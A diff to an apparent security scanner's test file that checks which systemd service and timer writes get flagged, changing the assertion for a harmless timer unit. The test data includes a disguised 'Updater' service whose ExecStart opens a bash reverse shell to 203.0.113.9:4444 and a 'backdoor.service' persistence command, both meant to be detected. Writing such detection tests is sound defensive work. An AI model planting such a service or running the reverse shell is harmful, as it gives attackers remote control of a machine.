@@ -72,8 +72,7 @@ test('lookalikes21: an addressee named as the object of somebody else\'s ask aim
 test('lookalikes21: services and timers of packaged programs (C18, W02)', () => {
   quiet({ type: 'command', value: 'sudo systemctl enable --now prometheus-node-exporter.service' }, 'C18');
   flags({ type: 'command', value: 'systemctl enable backdoor.service' }, 'CAUTION', 'C18', 'PERSISTENCE');
-  const timer = run({ type: 'file_write', value: '[Unit]\nDescription=Nightly export\n\n[Timer]\nOnCalendar=*-*-* 02:30:00\nPersistent=true\n\n[Install]\nWantedBy=timers.target', metadata: { path: '/etc/systemd/system/spc-export.timer' } });
-  // noted, not flagged: the timer schedules a service and runs no program of its own
-  assert.ok((timer.threats.find((t) => t.id === 'W02')?.score ?? 0) <= 2, `W02 on a timer: ${timer.threats.map((t) => `${t.id}:${t.score}`).join(',')}`);
+  // the timer schedules a service and runs no program of its own: the service is judged where it is written
+  quiet({ type: 'file_write', value: '[Unit]\nDescription=Nightly export\n\n[Timer]\nOnCalendar=*-*-* 02:30:00\nPersistent=true\n\n[Install]\nWantedBy=timers.target', metadata: { path: '/etc/systemd/system/spc-export.timer' } }, 'W02');
   flags({ type: 'file_write', value: '[Unit]\nDescription=Updater\n\n[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"\n\n[Install]\nWantedBy=multi-user.target', metadata: { path: '/etc/systemd/system/updater.service' } }, 'DANGER', 'W02');
 });
